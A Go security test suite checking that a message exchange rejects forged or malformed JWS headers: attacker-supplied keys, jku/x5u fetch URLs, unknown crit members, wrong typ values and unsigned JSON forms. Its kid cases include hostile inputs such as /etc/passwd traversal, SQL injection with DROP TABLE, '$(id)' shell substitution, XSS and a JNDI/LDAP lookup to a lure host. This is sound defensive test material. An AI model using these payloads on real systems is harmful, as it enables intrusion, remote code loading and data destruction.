package attack_test

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/liaison-exchange/liaison/exchange/envelope"
)

// TestHeaders: a protected header has exactly alg, kid and typ, the kid is
// that of a signing key of the agency that speaks, and nothing that a header
// names is ever fetched.
//
// DESIGN 5: where the catalogue has 422 for a member that a header may not
// have (J5 to J7), it is 400 here: nobody looks at a key for that.
func TestHeaders(t *testing.T) {
	t.Parallel()
	a := enter(t)
	k := a.delivered()
	cs := carriers(k)
	a.run(each(2, attacks(cs, ownKeys()))...)
	a.run(each(2, attacks(cs, fetched()))...)
	a.run(each(2, attacks(cs, kids(a)))...)
	a.run(each(2, attacks(cs, critical()))...)
	a.run(each(2, attacks(cs, typs()))...)
	a.run(each(2, attacks(cs, unprotected()))...)
	a.given(k)
	a.accepted()
}

// ownKeys: a key that the attacker brings along (J5, J7).
func ownKeys() (flaws []flaw) {
	attacker, err := envelope.GenerateSigning(envelope.ES256)
	must(err)
	jwk, err := attacker.Public().MarshalJWK(nil)
	must(err)
	chain := `["` + base64.StdEncoding.EncodeToString(der(attacker.Public())) + `"]`
	thumbprint := quote(attacker.Kid())
	for name, member := range map[string]string{
		"jwk": `"jwk":` + string(jwk), "jwk, empty": `"jwk":{}`, "jwk, null": `"jwk":null`, "x5c": `"x5c":` + chain, "x5c, empty": `"x5c":[]`,
		"x5t": `"x5t":` + thumbprint, "x5t#S256": `"x5t#S256":` + thumbprint, "jwk in other letters": `"JWK":` + string(jwk), "jwks": `"jwks":{"keys":[` + string(jwk) + `]}`,
	} {
		row := "J7"
		if strings.HasPrefix(name, "jwk") {
			row = "J5"
		}
		flaws = append(flaws,
			flaw{row, name + ", signed with the right key", add(member), form("unknown-member")},
			flaw{row, name + ", signed with that key", func(j *jws) { add(member)(j); j.key = attacker }, form("unknown-member")},
			flaw{row, name + " and its kid, signed with that key", func(j *jws) { j.signWith(attacker); addFirst(member)(j) }, form("unknown-member")},
		)
	}
	return flaws
}

// fetched: addresses from which keys could be fetched (J6).
func fetched() (flaws []flaw) {
	for _, url := range bait.urls() {
		for _, name := range []string{"jku", "x5u"} {
			flaws = append(flaws, flaw{"J6", name + " " + url, add(quote(name) + ":" + quote(url)), form("unknown-member")})
		}
		flaws = append(flaws, flaw{"J6", "kid " + url, set("kid", quote(url)), form("value")})
	}
	return append(flaws,
		flaw{"J6", "jku, no kid", func(j *jws) { drop("kid")(j); add(`"jku":` + quote(bait.urls()[0]))(j) }, form("unknown-member")},
		flaw{"J6", "typ as an address", set("typ", quote(bait.urls()[0])), form("typ")})
}

// kids: names of keys (J8).
func kids(a *arena) (flaws []flaw) {
	stranger, err := envelope.GenerateSigning(envelope.ES256)
	must(err)
	for _, kid := range []string{"", "1", "../../../etc/passwd", "..%2f..%2f", "' OR 1=1 --", "'; DROP TABLE keys; --", `" OR ""="`, "$(id)", "`id`", "%00", "%s%s%n", "{{7*7}}", "${jndi:ldap://" + lureHost + "/x}",
		"*", "null", "<script>alert(1)</script>", "ee/pbgb", "/dev/null", "C:\\keys", "key-1", "-1", "0x00", "ｋｉｄ", "кid", strings.Repeat("A", 42), strings.Repeat("A", 44), strings.Repeat("A", 1000),
		strings.Repeat("A", 42) + "=", strings.Repeat("A", 42) + "B", strings.Repeat("+", 43), strings.Repeat("/", 43), stranger.Kid() + " ", " " + stranger.Kid(), stranger.Kid()[:42] + "\u00e9",
		strings.ToUpper(a.SignKey("ee/pbgb").Kid()) + "!", a.SignKey("ee/pbgb").Kid() + a.SignKey("ee/pbgb").Kid()} {
		flaws = append(flaws, flaw{"J8", fmt.Sprintf("kid %.60q", kid), set("kid", quote(kid)), form("value")})
	}
	for name, value := range map[string]string{"null": "null", "number": "1", "list": `["x"]`, "object": `{"a":"x"}`, "true": "true"} {
		flaws = append(flaws, flaw{"J8", "kid is " + name, set("kid", value), form("type")})
	}
	for name, value := range map[string]string{"NUL": `"\u0000"`, "escape": `"\u001b[31m"`, "turned": `"\u202egnp.exe"`, "line": `"a\nb"`, "mark": "\"\ufeff\""} {
		flaws = append(flaws, flaw{"J8", "kid with a control character: " + name, set("kid", value), form("characters")})
	}
	flaws = append(flaws, flaw{"J8", "no kid", drop("kid"), form("missing-member")},
		flaw{"J8", "kid of 1 MB", set("kid", quote(strings.Repeat("A", 1<<20))), tooLarge},
		flaw{"J8", "kid of 5 KB", set("kid", quote(strings.Repeat("A", 5<<10))), form("too-large")})
	for name, key := range map[string]string{
		"nobody's": stranger.Kid(), "another agency's": a.SignKey("it/dcpc").Kid(), "one's own encryption key's": a.DecryptKeys("ee/pbgb")[0].Kid(),
		"the recipient's encryption key's": a.DecryptKeys("lv/vp")[0].Kid(), "zeroes": strings.Repeat("A", 43), "of other case": swapCase(a.SignKey("ee/pbgb").Kid()),
	} {
		flaws = append(flaws, flaw{"J8", "kid " + name, set("kid", quote(key)), nobodysKey})
	}
	return append(flaws, flaw{"J8", "a key that nobody has registered, and its kid", func(j *jws) { j.signWith(stranger) }, nobodysKey},
		flaw{"J8", "another agency's key and its kid", func(j *jws) { j.signWith(a.SignKey("ua/npu")) }, nobodysKey},
		flaw{"J8", "the right kid, signed with another key", func(j *jws) { j.key = stranger }, forgedAs("signature")})
}

// swapCase spells a thumbprint with the other case in its letters, but for the
// last one, which must stay canonical.
func swapCase(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return r - 'a' + 'A'
		case r >= 'A' && r <= 'Z':
			return r - 'A' + 'a'
		}
		return r
	}, s[:len(s)-1]) + s[len(s)-1:]
}

// critical: extensions that must be understood (J12), and payloads that are
// not encoded (J13).
func critical() (flaws []flaw) {
	for _, value := range []string{`["x"]`, `["exp"]`, `["alg"]`, `["b64"]`, `["typ","kid"]`, `[]`, `"exp"`, `{}`, `null`, `true`, `1`, `[""]`, `[1]`, `[null]`, `[["x"]]`, `["x","x"]`, `["http://` + lureHost + `/"]`} {
		flaws = append(flaws, flaw{"J12", "crit " + value, add(`"crit":` + value), form("unknown-member")})
	}
	flaws = append(flaws,
		flaw{"J12", "crit and what it names", add(`"x":1,"crit":["x"]`), form("unknown-member")},
		flaw{"J12", "crit twice", add(`"crit":[],"crit":["x"]`), form("unknown-member")},
		flaw{"J12", "Crit", add(`"Crit":["x"]`), form("unknown-member")},
	)
	for _, value := range []string{`false`, `true`, `"false"`, `null`, `0`} {
		flaws = append(flaws, flaw{"J13", "b64 " + value, add(`"b64":` + value), form("unknown-member")},
			flaw{"J13", "b64 " + value + ", critical", add(`"b64":` + value + `,"crit":["b64"]`), form("unknown-member")})
	}
	// Signed over the payload as it is (RFC 7797), sent in base64url.
	flaws = append(flaws, flaw{"J13", "signed over what is not encoded", func(j *jws) {
		add(`"b64":false,"crit":["b64"]`)(j)
		payload, key := j.payload, j.key
		j.signature = func(input string) string { return sign(key, input[:strings.IndexByte(input, '.')+1]+payload) }
	}, form("unknown-member")},
		flaw{"J13", "sent without encoding", func(j *jws) {
			add(`"b64":false,"crit":["b64"]`)(j)
			payload := strings.ReplaceAll(j.payload, ".", "")
			j.segments = func(header, _ string) (string, string) { return header, payload }
		}, form("base64url")})
	for _, member := range []string{`"zip":"DEF"`, `"enc":"A256GCM"`, `"cty":"JWT"`, `"cty":"application/json"`, `"iss":"ee/pbgb"`, `"exp":1`, `"nonce":"x"`, `"url":"x"`, `"p2c":2147483648`, `"epk":{}`, `"apu":"AAAA"`, `"":""`, `"x":{}`} {
		flaws = append(flaws, flaw{"J12", "another member " + member, add(member), form("unknown-member")})
	}
	return flaws
}

// typs: parts of another kind (J36).
func typs() (flaws []flaw) {
	for _, typ := range []string{"", "JWT", "jwt", "JOSE", "jose+json", "liaison+jwt", "liaison-manifest2+jwt", "liaison-policy+jwt", "liaison-receipt+jwt", envelope.TypContent, envelope.TypApproval, envelope.CtyMessage, "c2sp.org/tlog-proof@v1"} {
		flaws = append(flaws, flaw{"J36", fmt.Sprintf("typ %q", typ), set("typ", quote(typ)), form("typ")})
	}
	own := func(change func(string) string) func(*jws) {
		return func(j *jws) {
			i := strings.Index(j.header, `"typ":"`) + len(`"typ":"`)
			set("typ", quote(change(j.header[i:i+strings.IndexByte(j.header[i:], '"')])))(j)
		}
	}
	flaws = append(flaws,
		flaw{"J36", "no typ", drop("typ"), form("missing-member")},
		flaw{"J36", "typ null", set("typ", "null"), form("type")},
		flaw{"J36", "typ in a list", set("typ", `["JWT"]`), form("type")},
		flaw{"J36", "typ in upper case", own(strings.ToUpper), form("typ")},
		flaw{"J36", "typ with application/", own(func(s string) string { return "application/" + s }), form("typ")},
		flaw{"J36", "typ and a blank", own(func(s string) string { return s + " " }), form("typ")},
		flaw{"J36", "typ, shorter", own(func(s string) string { return s[:len(s)-1] }), form("typ")},
	)
	for _, typ := range []string{envelope.TypManifest, envelope.TypStatement, envelope.TypAcknowledgement} {
		other := typ
		flaws = append(flaws, flaw{"J36", "typ of another part than " + other, own(func(s string) string {
			for _, t := range []string{envelope.TypManifest, envelope.TypStatement, envelope.TypAcknowledgement} {
				if t != s && t != other {
					return t
				}
			}
			return ""
		}), form("typ")})
	}
	return flaws
}

// unprotected: the JSON serializations, with members that nobody signed (J10,
// J11, J21, J22).
func unprotected() (flaws []flaw) {
	flattened := func(edit func(header, payload, signature string) string) func(*jws) {
		return func(j *jws) {
			j.finished = func(compact string) string {
				p := strings.Split(compact, ".")
				return edit(p[0], p[1], p[2])
			}
		}
	}
	json := func(row, name string, drops []string, text string) {
		edit := flattened(func(h, p, s string) string {
			return strings.NewReplacer("@H", h, "@P", p, "@S", s).Replace(text)
		})
		flaws = append(flaws, flaw{row, name, func(j *jws) {
			for _, member := range drops {
				text = strings.ReplaceAll(text, "@"+member, `"x"`)
				drop(member)(j)
			}
			edit(j)
		}, form("parts")})
	}
	const protected = `"protected":"@H","payload":"@P","signature":"@S"`
	json("J21", "flattened", nil, `{`+protected+`}`)
	json("J10", "kid in the unprotected header", []string{"kid"}, `{`+protected+`,"header":{"kid":"x"}}`)
	json("J11", "alg in the unprotected header", []string{"alg"}, `{`+protected+`,"header":{"alg":"ES256"}}`)
	json("J12", "crit in the unprotected header", nil, `{`+protected+`,"header":{"crit":["x"]}}`)
	json("J10", "kid in both headers", nil, `{`+protected+`,"header":{"kid":"x"}}`)
	json("J21", "general, one signature", nil, `{"payload":"@P","signatures":[{"protected":"@H","signature":"@S"}]}`)
	json("J21", "general, no signature", nil, `{"payload":"@P","signatures":[]}`)
	json("J21", "general, the second one holds", nil, `{"payload":"@P","signatures":[{"protected":"@H","signature":"`+strings.Repeat("A", 86)+`"},{"protected":"@H","signature":"@S"}]}`)
	json("J21", "general, the first one holds", nil, `{"payload":"@P","signatures":[{"protected":"@H","signature":"@S"},{"protected":"@H","signature":"`+strings.Repeat("A", 86)+`"}]}`)
	json("J22", "payload both detached and not", nil, `{"payload":"@P","detached":"@P","protected":"@H","signature":"@S"}`)
	json("J22", "flattened, detached", nil, `{"protected":"@H","signature":"@S"}`)
	json("J15", "members in upper case", nil, `{"PROTECTED":"@H","PAYLOAD":"@P","SIGNATURE":"@S"}`)
	json("J14", "payload twice", nil, `{`+protected+`,"payload":"@P"}`)
	json("J40", "a list of one", nil, `["@H","@P","@S"]`)
	json("J40", "compact in a JSON string, by a comma", nil, `"@H,@P,@S"`)
	flaws = append(flaws,
		flaw{"J21", "general, a thousand signatures", flattened(func(h, p, s string) string {
			one := `{"protected":"` + h + `","signature":"` + s + `"},`
			return `{"payload":"` + p + `","signatures":[` + strings.TrimSuffix(strings.Repeat(one, 1000), ",") + `]}`
		}), tooLarge},
		flaw{"J40", "compact as a JSON string", flattened(func(h, p, s string) string { return `"` + h + "." + p + "." + s + `"` }), form("base64url")},
		flaw{"J40", "compact in an object", flattened(func(h, p, s string) string { return `{"jws":"` + h + "." + p + "." + s + `"}` }), form("base64url")},
		flaw{"J40", "compact, then JSON", flattened(func(h, p, s string) string { return h + "." + p + "." + s + "\n{}" }), form("base64url")},
	)
	return flaws
}
